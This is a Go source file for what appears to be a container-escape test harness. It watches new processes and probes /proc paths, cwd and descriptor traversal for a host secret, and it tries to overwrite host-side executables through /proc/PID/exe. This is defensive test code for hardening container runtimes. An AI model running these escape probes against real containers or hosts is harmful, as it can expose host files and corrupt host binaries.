package main

import (
	"bytes"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

func init() {
	commands["spy"] = spy
	commands["overwrite"] = overwrite
}

// watcher looks at each new process of its PID namespace, from the moment that it has a number.
type watcher struct {
	stop  atomic.Bool
	seen  int
	found map[string]bool
}

func newWatcher() *watcher {
	w := &watcher{found: map[string]bool{}}
	signals := make(chan os.Signal, 1)
	signal.Notify(signals, unix.SIGTERM)
	go func() {
		<-signals
		w.stop.Store(true)
	}()
	runtime.LockOSThread()
	return w
}

func (w *watcher) tell(format string, args ...any) {
	text := fmt.Sprintf(format, args...)
	if !w.found[text] {
		w.found[text] = true
		fmt.Println("FOUND", text)
	}
}

// watch calls probe with the directory of each process other than those that were there at first, again and again
// while it is there. Numbers are given in order, so that a process is awaited by its number.
func (w *watcher) watch(probe func(pid int, dir string)) {
	last := os.Getpid()
	for _, pid := range processes() {
		last = max(last, pid)
	}
	fmt.Println("watching")
	var st unix.Stat_t
	for i := 0; !w.stop.Load(); i++ {
		for pid := last + 1; pid <= last+8; pid++ {
			dir := "/proc/" + strconv.Itoa(pid)
			if unix.Stat(dir, &st) != nil {
				continue
			}
			last = pid
			if unix.Stat("/proc/self/task/"+strconv.Itoa(pid), &st) == nil {
				break // a thread of this program
			}
			w.seen++
			for !w.stop.Load() && unix.Stat(dir, &st) == nil {
				probe(pid, dir)
			}
			break
		}
		if i%200 == 0 { // there may be more numbers in between that were given to threads
			for _, pid := range processes() {
				if pid > last {
					last = pid - 1
					break
				}
			}
		}
	}
	fmt.Println("watched", w.seen)
}

func processes() (pids []int) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return nil
	}
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			pids = append(pids, pid)
		}
	}
	return pids
}

// spy SECRET NODE MARKER... looks for ways out of the container in each new process: the file SECRET of the host below
// its root, its working directory or its descriptors, the node's directory NODE and the markers in the targets
// of its descriptors, and the markers, which only the host has, in its table of mounts and its sockets.
// (The table of mounts of a container names NODE, where its root file system is.) With SPY_STOP in the environment
// it stops each process at first, to look at it longer.
func spy(args []string) error {
	if len(args) < 3 {
		return fmt.Errorf("spy takes the path of a secret, the node's directory, and markers")
	}
	secret, paths, markers := args[0], args[1:], args[2:]
	stopping := os.Getenv("SPY_STOP") != ""
	w := newWatcher()
	up := strings.Repeat("../", 30)
	stopped := 0
	w.watch(func(pid int, dir string) {
		if stopping && stopped != pid {
			_ = unix.Kill(pid, unix.SIGSTOP)
			stopped = pid
			defer func() { _ = unix.Kill(pid, unix.SIGCONT) }()
		}
		for _, way := range []string{"/root", "/cwd/" + up} {
			if fd, err := unix.Open(dir+way+secret, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(fd)
				w.tell("the host's files by %s", way)
			}
		}
		for _, file := range []string{"/mountinfo", "/net/unix", "/environ", "/maps"} {
			content, err := os.ReadFile(dir + file)
			for _, marker := range markers {
				if err == nil && bytes.Contains(content, []byte(marker)) {
					w.tell("%q in %s", marker, file)
				}
			}
		}
		descriptors, err := os.ReadDir(dir + "/fd")
		if err != nil {
			return
		}
		for _, d := range descriptors {
			link, err := os.Readlink(dir + "/fd/" + d.Name())
			if err != nil {
				continue
			}
			for _, p := range paths {
				if strings.Contains(link, p) {
					w.tell("descriptor of %s", link)
				}
			}
			if fd, err := unix.Open(dir+"/fd/"+d.Name()+"/"+up+secret, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(fd)
				w.tell("the host's files by descriptor %s", link)
			}
		}
	})
	return nil
}

// overwrite tries to write to the program of each new process that is not of this container's root file system.
// To open a sealed file of memory for writing is no harm yet: what counts is whether its content changes.
func overwrite([]string) error {
	var own unix.Stat_t
	if err := unix.Stat("/intruder", &own); err != nil {
		return err
	}
	// A program cannot be written to while it runs; a descriptor of it stays when it has ended.
	programs := make(chan string, 100)
	go func() {
		var opened []string
		for {
			select {
			case p := <-programs:
				opened = append(opened, p)
			default:
				runtime.Gosched()
			}
			for _, p := range opened {
				for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
					fd, err := unix.Open(p, flags|unix.O_CLOEXEC, 0)
					if err != nil {
						continue
					}
					var st unix.Stat_t
					n, _ := unix.Write(fd, []byte("#!/overwritten\n"))
					short := unix.Ftruncate(fd, 1) == nil || unix.Fstat(fd, &st) == nil && st.Size == 0
					unix.Close(fd)
					if n > 0 || short {
						link, _ := os.Readlink(p)
						fmt.Println("FOUND wrote to", link)
						return
					}
				}
			}
		}
	}()
	w := newWatcher()
	seen := map[uint64]bool{}
	w.watch(func(_ int, dir string) {
		fd, err := unix.Open(dir+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || st.Dev == own.Dev || seen[st.Ino] || len(seen) == cap(programs) {
			unix.Close(fd)
			return
		}
		seen[st.Ino] = true
		p := fmt.Sprintf("/proc/self/fd/%d", fd)
		link, _ := os.Readlink(p)
		w.tell("opened %s for reading", link)
		programs <- p
	})
	return nil
}
